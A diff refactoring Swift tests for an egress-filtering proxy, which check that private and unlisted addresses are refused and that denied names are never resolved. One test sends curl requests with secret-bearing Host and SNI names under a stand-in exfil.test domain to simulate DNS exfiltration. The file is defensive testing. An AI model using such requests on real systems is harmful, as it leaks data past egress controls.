@@ -12,10 +12,10 @@ import Testing
 struct EgressNamespaceTests {
     static let clientUID = 65534
 
-    @Test(
-        "deny_ips: private refuses a name that resolves to a private address even where its name is allowed, forward and captured; default deny refuses an unlisted address; the allowed public address is reached"
-    )
-    func privateRangesForwardAndCaptured() throws {
+    /// A scratch directory the client (another uid) may enter, holding `config.yaml`: the forward
+    /// listener on 127.0.0.1:18080, the transparent one on 127.0.0.1:15001, `clients` as given
+    /// (`CLIENT_UID` replaced), `extra` top-level sections, and the JSON access log.
+    static func setUp(clients: String, extra: String = "") throws -> ScratchDirectory {
         let scratch = ScratchDirectory()
         try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: scratch.path)
         scratch.write(
@@ -24,38 +24,74 @@ struct EgressNamespaceTests {
             listen: "127.0.0.1:18080"
             transparent: { listen: "127.0.0.1:15001" }
             clients:
-              - name: agent
-                uid: \(Self.clientUID)
-                egress: { default: deny, allow: ["http://public.test", "http://internal.test"] }
-              - name: anonymous
-            egress: { deny_ips: [link_local, metadata, private] }
+            \(clients.replacingOccurrences(of: "CLIENT_UID", with: String(clientUID)))
+            \(extra)
             log: { format: json, output: \(scratch.path)/access.log }
             """)
-        func curl(_ name: String, _ arguments: [String]) -> [String: Any] {
-            ["name": name, "argv": ["curl", "-sS", "-m", "20", "-w", "\n%{http_code}"] + arguments, "uid": Self.clientUID, "timeout": 30]
+        return scratch
+    }
+
+    /// curl as the sandboxed user, no proxy variable; its output ends with the status code.
+    static func curl(_ name: String, _ arguments: [String]) -> [String: Any] {
+        ["name": name, "argv": ["curl", "-sS", "-m", "20", "-w", "\n%{http_code}"] + arguments, "uid": clientUID, "timeout": 30]
+    }
+
+    /// The nftables REDIRECT of the sandboxed user's `ports` to the transparent listener.
+    static func redirect(ports: String) -> String {
+        """
+        table ip nat {
+          chain output {
+            type nat hook output priority -100; policy accept;
+            meta skuid \(clientUID) tcp dport \(ports) redirect to :15001
+          }
         }
+
+        """
+    }
+
+    /// The proxy as the namespace's background process, on the scratch directory's config.
+    static func proxy(_ scratch: ScratchDirectory) -> [[String: Any]] {
+        [
+            [
+                "name": "proxy", "argv": [ProxyProcess.binaryPath, "run", "--config", scratch.path + "/config.yaml"],
+                "env": ["HOME": scratch.path], "ready": "listening on",
+            ]
+        ]
+    }
+
+    /// Runs the spec; nil (said on stdout) when the namespace cannot be made here.
+    static func run(_ spec: [String: Any], in scratch: ScratchDirectory) throws -> NetnsRun.Report? {
+        switch try NetnsRun.run(spec, in: scratch.path) {
+        case .skipped(let reason):
+            print("EgressNamespaceTests skipped: \(reason)")
+            return nil
+        case .ran(let report):
+            #expect(report.error == nil, "\(report.error ?? "")\n\(report.background["proxy"] ?? "")")
+            return report
+        }
+    }
+
+    @Test(
+        "deny_ips: private refuses a name that resolves to a private address even where its name is allowed, forward and captured; default deny refuses an unlisted address; the allowed public address is reached"
+    )
+    func privateRangesForwardAndCaptured() throws {
+        let scratch = try Self.setUp(
+            clients: """
+                  - name: agent
+                    uid: CLIENT_UID
+                    egress: { default: deny, allow: ["http://public.test", "http://internal.test"] }
+                  - name: anonymous
+                """, extra: "egress: { deny_ips: [link_local, metadata, private] }")
+        let curl = Self.curl
         let spec: [String: Any] = [
             "addresses": ["10.77.0.1/32", "198.51.100.7/32", "100.64.0.9/32"],
             "hosts": ["internal.test": "10.77.0.1", "public.test": "198.51.100.7"],
-            "nft": """
-            table ip nat {
-              chain output {
-                type nat hook output priority -100; policy accept;
-                meta skuid \(Self.clientUID) tcp dport 80 redirect to :15001
-              }
-            }
-
-            """,
+            "nft": Self.redirect(ports: "80"),
             "origins": [
                 ["name": "internal", "listen": "10.77.0.1:80"], ["name": "public", "listen": "198.51.100.7:80"],
                 ["name": "cgnat", "listen": "100.64.0.9:80"],
             ],
-            "background": [
-                [
-                    "name": "proxy", "argv": [ProxyProcess.binaryPath, "run", "--config", scratch.path + "/config.yaml"],
-                    "env": ["HOME": scratch.path], "ready": "listening on",
-                ]
-            ],
+            "background": Self.proxy(scratch),
             "commands": [
                 curl("forward-public", ["-x", "http://127.0.0.1:18080", "http://public.test/forward"]),
                 curl("forward-internal", ["-x", "http://127.0.0.1:18080", "http://internal.test/forward"]),
@@ -65,14 +101,7 @@ struct EgressNamespaceTests {
                 curl("captured-cgnat", ["http://100.64.0.9/captured"]),
             ],
         ]
-        let report: NetnsRun.Report
-        switch try NetnsRun.run(spec, in: scratch.path) {
-        case .skipped(let reason):
-            print("EgressNamespaceTests skipped: \(reason)")
-            return
-        case .ran(let ran): report = ran
-        }
-        #expect(report.error == nil, "\(report.error ?? "")\n\(report.background["proxy"] ?? "")")
+        guard let report = try Self.run(spec, in: scratch) else { return }
 
         // The canaries: nothing at all reached the private or unlisted destinations.
         #expect(report.origins["internal"]?.isEmpty ?? true, "\(report.origins["internal"] ?? [])")
@@ -112,25 +141,15 @@ struct EgressNamespaceTests {
         "a name the client's egress rules deny is never looked up from the transparent listener (Host or SNI): a sandboxed client cannot send data out through the proxy's resolver, nor learn where the name points; an allowed name still is"
     )
     func capturedNameDeniedIsNotLookedUp() throws {
-        let scratch = ScratchDirectory()
-        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: scratch.path)
         // The global rules allow everything (the anonymous client's); the sandboxed client's do not.
-        scratch.write(
-            "config.yaml",
-            """
-            listen: "127.0.0.1:18080"
-            transparent: { listen: "127.0.0.1:15001" }
-            clients:
-              - name: agent
-                uid: \(Self.clientUID)
-                egress: { default: deny, allow: ["http://public.test"] }
-              - name: anonymous
-            tls: { tunnel: allow }
-            log: { format: json, output: \(scratch.path)/access.log }
-            """)
-        func curl(_ name: String, _ arguments: [String]) -> [String: Any] {
-            ["name": name, "argv": ["curl", "-sS", "-m", "20", "-w", "\n%{http_code}"] + arguments, "uid": Self.clientUID, "timeout": 30]
-        }
+        let scratch = try Self.setUp(
+            clients: """
+                  - name: agent
+                    uid: CLIENT_UID
+                    egress: { default: deny, allow: ["http://public.test"] }
+                  - name: anonymous
+                """, extra: "tls: { tunnel: allow }")
+        let curl = Self.curl
         // The client never resolves a name itself (an address in the URL, or --resolve): every query
         // the DNS server sees was sent by the proxy. The exfiltrating names resolve to the very
         // address the client connects to, so the name rule alone would have let them count.
@@ -146,36 +165,16 @@ struct EgressNamespaceTests {
                     ],
                 ]
             ],
-            "nft": """
-            table ip nat {
-              chain output {
-                type nat hook output priority -100; policy accept;
-                meta skuid \(Self.clientUID) tcp dport { 80, 443 } redirect to :15001
-              }
-            }
-
-            """,
+            "nft": Self.redirect(ports: "{ 80, 443 }"),
             "origins": [["name": "public", "listen": "198.51.100.7:80"]],
-            "background": [
-                [
-                    "name": "proxy", "argv": [ProxyProcess.binaryPath, "run", "--config", scratch.path + "/config.yaml"],
-                    "env": ["HOME": scratch.path], "ready": "listening on",
-                ]
-            ],
+            "background": Self.proxy(scratch),
             "commands": [
                 curl("allowed-name", ["-H", "Host: public.test", "http://198.51.100.7/allowed"]),
                 curl("denied-host", ["-H", "Host: host-secret-4711.exfil.test", "http://198.51.100.7/denied"]),
                 curl("denied-sni", ["-k", "--resolve", "sni-secret-4712.exfil.test:443:198.51.100.7", "https://sni-secret-4712.exfil.test/"]),
             ],
         ]
-        let report: NetnsRun.Report
-        switch try NetnsRun.run(spec, in: scratch.path) {
-        case .skipped(let reason):
-            print("EgressNamespaceTests skipped: \(reason)")
-            return
-        case .ran(let ran): report = ran
-        }
-        #expect(report.error == nil, "\(report.error ?? "")\n\(report.background["proxy"] ?? "")")
+        guard let report = try Self.run(spec, in: scratch) else { return }
         let asked = Set(report.dnsQueries.map { $0.lowercased() })
         // The control: the proxy does resolve a name the client may reach (the server sees it).
         #expect(asked.contains("public.test"), "\(asked)")
